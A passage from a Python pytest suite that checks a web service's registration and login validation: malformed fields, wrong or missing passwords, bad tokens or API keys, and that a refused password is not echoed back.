            {"password": " " * 11}, ["body.password", "at least 12 characters"], id="eleven-spaces"
        ),
        pytest.param(
            {"username": "Chan Tai Man"},
            ["body.username", "must be a lower-case letter or digit"],
            id="bad-username",
        ),
        pytest.param({"email": "not-an-email"}, ["body.email"], id="bad-email"),
        pytest.param(
            {"operator_kind": "partnership"}, ["body.operator_kind", "'company'"], id="bad-kind"
        ),
        pytest.param(
            {"business_registration_no": "?"},
            ["body.business_registration_no"],
            id="bad-registration-no",
        ),
    ],
)
def test_registration_with_bad_content(
    service: str, unchanged: Unchanged, changes: dict[str, Any], says: list[str]
) -> None:
    with unchanged():
        response = web.post(f"{service}/api/v1/auth/register", json=registration(**changes))
    refused(response, 422, *says)


def test_refused_registration_does_not_echo_the_password(service: str) -> None:
    password = "tooshort-42"
    response = web.post(f"{service}/api/v1/auth/register", json=registration(password=password))
    refused(response, 422, "body.password")
    assert password not in response.text


@pytest.mark.parametrize("who", ["known", "unknown"])
def test_login_with_a_wrong_password(
    service: str, applicant: Api, unchanged: Unchanged, who: str
) -> None:
    username = applicant.username if who == "known" else f"nobody-{uuid.uuid4().hex[:6]}"
    with unchanged():
        response = web.post(
            f"{service}/api/v1/auth/token",
            data={"username": username, "password": "correct horse battery stapler"},
        )
    refused(response, 401, "wrong username or password")
    assert response.headers["www-authenticate"] == "Bearer"


def test_login_without_a_password(service: str, applicant: Api, unchanged: Unchanged) -> None:
    with unchanged():
        response = web.post(f"{service}/api/v1/auth/token", data={"username": applicant.username})
    refused(response, 422, "body.password is required")


@pytest.mark.parametrize(
    "headers",
    [
        pytest.param({}, id="none"),
        pytest.param({"Authorization": "Bearer not.a.token"}, id="bad-token"),
        pytest.param({"X-API-Key": "kpk_0000_nope"}, id="bad-api-key"),
    ],
)
def test_not_logged_in(service: str, unchanged: Unchanged, headers: dict[str, str]) -> None:
    with unchanged():
        response = web.post(
            f"{service}/api/v1/documents",
            headers=headers,
            files={"file": ("doc.pdf", PDF, "application/pdf")},
            data={"kind": "criminal_record"},
        )
    refused(response, 401)
